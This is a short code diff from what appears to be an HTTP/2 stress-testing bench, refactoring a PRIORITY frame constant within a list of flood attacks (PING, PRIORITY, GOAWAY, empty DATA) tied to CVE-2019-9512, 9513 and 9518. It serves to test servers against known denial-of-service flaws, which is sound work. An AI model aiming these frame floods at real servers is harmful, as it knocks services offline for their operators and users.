@@ -7,7 +7,7 @@ from bench.hostile import frames
 from bench.hostile.attack import Attack, Ports, RunAttack, filled, flood
 from bench.hostile.peer import Peer, opened
 
-SELF_DEPENDENT = frames.uint32(1) + b"\0"
+PRIORITY = frames.frame(frames.PRIORITY, 0, 3, frames.uint32(1) + b"\0")
 
 
 def frame_flood(frame: bytes, path: str = "", reads: bool = True) -> RunAttack:
@@ -66,7 +66,7 @@ ATTACKS = [
     Attack("PING", "flood", frame_flood(frames.frame(frames.PING, 0, 0, bytes(8))), "CVE-2019-9512"),
     Attack("PING, unread", "flood", frame_flood(frames.frame(frames.PING, 0, 0, bytes(8)), reads=False)),
     Attack("PING ACK", "flood", frame_flood(frames.frame(frames.PING, frames.ACK, 0, bytes(8)))),
-    Attack("PRIORITY", "flood", frame_flood(frames.frame(frames.PRIORITY, 0, 3, SELF_DEPENDENT)), "CVE-2019-9513"),
+    Attack("PRIORITY", "flood", frame_flood(PRIORITY), "CVE-2019-9513"),
     Attack("unknown frames", "flood", frame_flood(frames.frame(frames.UNKNOWN, 0, 0))),
     Attack("GOAWAY", "flood", frame_flood(frames.frame(frames.GOAWAY, 0, 0, bytes(8)))),
     Attack("empty DATA", "flood", frame_flood(frames.frame(frames.DATA, 0, 1), STREAM), "CVE-2019-9518"),
